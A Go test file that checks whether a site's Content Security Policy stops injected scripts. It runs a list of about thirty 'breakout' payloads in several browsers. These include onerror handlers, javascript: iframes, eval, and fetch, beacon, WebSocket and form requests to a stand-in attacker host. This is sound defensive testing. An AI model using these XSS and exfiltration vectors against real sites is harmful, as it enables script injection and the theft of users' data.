package journeys

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"parallax/web/browser"
)

// breakouts are what a script that has got into the page would try next, to run
// more or to tell somebody what it saw. RUN is a script that notes that it ran,
// ADDRESS an address of the attacker's. Navigation is not among them: no policy can
// forbid that a page leads elsewhere.
var breakouts = []struct{ name, script string }{
	{"inline script", `document.body.append(Object.assign(document.createElement("script"), {text: "RUN"}))`},
	{"script from elsewhere", `document.body.append(Object.assign(document.createElement("script"), {src: "ADDRESS"}))`},
	{"script from data", `document.body.append(Object.assign(document.createElement("script"), {src: "data:text/javascript,RUN"}))`},
	{"script from a blob", `document.body.append(Object.assign(document.createElement("script"), {src: URL.createObjectURL(new Blob(["RUN"], {type: "text/javascript"}))}))`},
	{"inline handler", `document.body.append((() => { const e = new Image(); e.setAttribute("onerror", "RUN"); e.src = "missing:x"; return e; })())`},
	{"markup with a handler", `document.body.insertAdjacentHTML("beforeend", "<img src=missing:x onerror='RUN'>")`},
	{"innerHTML", `document.body.appendChild(document.createElement("p")).innerHTML = "<img src=missing:x onerror='RUN'>"`},
	{"fragment from markup", `document.body.append(document.createRange().createContextualFragment("<script>RUN</"+"script>"))`},
	{"frame with markup", `document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: "<script>RUN</"+"script>"}))`},
	{"frame with a javascript: address", `document.body.append(Object.assign(document.createElement("iframe"), {src: "javascript:RUN"}))`},
	{"link with a javascript: address", `document.body.appendChild(Object.assign(document.createElement("a"), {href: "javascript:void(RUN)", onclick: (e) => e.stopPropagation()})).click()`},
	{"eval", `eval("RUN")`},
	{"Function", `new Function("RUN")()`},
	{"setTimeout with text", `setTimeout("RUN", 0)`},
	{"module from elsewhere", `import("ADDRESS").catch(() => {})`},
	{"module from data", `import("data:text/javascript,RUN").catch(() => {})`},
	{"fetch", `fetch("ADDRESS", {mode: "no-cors"}).catch(() => {})`},
	{"XMLHttpRequest", `(() => { const r = new XMLHttpRequest(); r.open("GET", "ADDRESS"); r.send(); })()`},
	{"beacon", `navigator.sendBeacon("ADDRESS", "x")`},
	{"WebSocket", `new WebSocket("ADDRESS".replace("http", "ws"))`},
	{"EventSource", `new EventSource("ADDRESS")`},
	{"image", `document.body.append(Object.assign(new Image(), {src: "ADDRESS"}))`},
	{"frame", `document.body.append(Object.assign(document.createElement("iframe"), {src: "ADDRESS"}))`},
	{"object", `document.body.append(Object.assign(document.createElement("object"), {data: "ADDRESS"}))`},
	{"audio", `document.body.append(Object.assign(new Audio(), {src: "ADDRESS", preload: "auto"}))`},
	{"style sheet", `document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: "ADDRESS"}))`},
	{"style element", `document.head.append(Object.assign(document.createElement("style"), {textContent: "@import 'ADDRESS'; body { background: url(ADDRESS) }"}))`},
	{"style attribute", `document.body.insertBefore(document.createElement("p"), null).setAttribute("style", "background: url(ADDRESS); height: 9px")`},
	{"font", `new FontFace("x", "url(ADDRESS)").load().catch(() => {})`},
	{"preload", `document.head.append(Object.assign(document.createElement("link"), {rel: "preload", as: "image", href: "ADDRESS"}))`},
	{"prefetch", `document.head.append(Object.assign(document.createElement("link"), {rel: "prefetch", href: "ADDRESS"}))`},
	{"worker", `new Worker(URL.createObjectURL(new Blob(["fetch('ADDRESS', {mode: 'no-cors'})"], {type: "text/javascript"})))`},
	{"base", `document.head.append(Object.assign(document.createElement("base"), {href: "ADDRESS/"})), document.body.append(Object.assign(new Image(), {src: "relative.png"}))`},
	{"form", `(() => { const f = Object.assign(document.createElement("form"), {action: "ADDRESS"}); document.body.append(f); f.submit(); })()`},
}

// A script that got in by some way nobody thought of could neither bring more
// with it nor tell anybody. Each attempt is first made where nothing stops it:
// there it has to succeed.
func TestBreakOut(t *testing.T) {
	claim(t)
	address := packed(t)
	for _, kind := range kinds(t) {
		t.Run(string(kind), func(t *testing.T) {
			// Firefox under test fetches nothing ahead, nor does WebKit, and no socket gets past
			// the browser's proxy (but the host would be noticed): these are
			// tried, but not required to succeed first.
			optional := []string{"WebSocket"}
			if kind != browser.Chromium {
				optional = append(optional, "prefetch")
			}
			free := breakOut(t, kind, defenceless(t), "document.body", len(breakouts)-len(optional))
			for n, b := range breakouts {
				if !slices.Contains(free, n) && !slices.Contains(optional, b.name) {
					t.Errorf("%s does not work even where nothing stops it, so this proves nothing", b.name)
				}
			}
			t.Logf("without a policy %d of %d attempts succeed", len(free), len(breakouts))
			g := openGate(t, site, "/a/b/")
			for _, at := range []string{g.base(), g.base() + "articles/wang-fringe.html", address} {
				condition := running
				if strings.HasSuffix(at, "wang-fringe.html") {
					condition = `document.readyState === "complete"`
				}
				for _, n := range breakOut(t, kind, at, condition, 0) {
					t.Errorf("%s: %s succeeds", at, breakouts[n].name)
				}
			}
		})
	}
}

// breakOut makes every attempt on a page and returns which succeeded: their
// script ran, or the attacker's host was asked. It waits for as many as must
// succeed, or, if none may, for two seconds.
func breakOut(t *testing.T, kind browser.Kind, at, ready string, must int) (succeeded []int) {
	t.Helper()
	evil := newAttacker(t)
	b := browser.Start(t, kind, browser.Options{})
	defer b.Close()
	p := b.Page()
	p.Open(at)
	p.WaitFor(ready)
	before := p.String("document.baseURI")
	var ran []int
	wait := func(most int) {
		limit := browser.Patience
		if must == 0 {
			limit = 2 * time.Second
		}
		for end := time.Now().Add(limit); time.Now().Before(end) && (must == 0 || len(succeeded) < most); time.Sleep(100 * time.Millisecond) {
			var now []int
			p.TryEval(fired, &now)
			ran = append(ran, now...)
			succeeded = nil
			for n := range breakouts {
				if slices.Contains(ran, n) || evil.knows(fmt.Sprint(n)) {
					succeeded = append(succeeded, n)
				}
			}
		}
	}
	for n, attempt := range breakouts {
		script := strings.ReplaceAll(attempt.script, "ADDRESS", fmt.Sprintf("%s/%d", evil.URL, n))
		script = strings.ReplaceAll(script, "RUN", fmt.Sprintf("(top.fired=top.fired||[]).push(%d)", n))
		if attempt.name == "form" {
			wait(must - 1) // it ends the page; the others come first
		}
		// What the protocol runs may more than a page: the attempt is left to the
		// page's own clock. What is forbidden may throw.
		p.TryEval("new Promise((done) => setTimeout(() => { done(true); "+script+"; }, 0))", nil)
	}
	wait(must)
	if after := p.String("document.baseURI"); ready != "document.body" && after != before {
		t.Errorf("%s: the base of addresses became %s", at, after)
	}
	for _, host := range b.Hosts() {
		if ready != "document.body" && host == evil.host {
			t.Errorf("%s: the browser reached the attacker's host", at)
		}
	}
	return succeeded
}
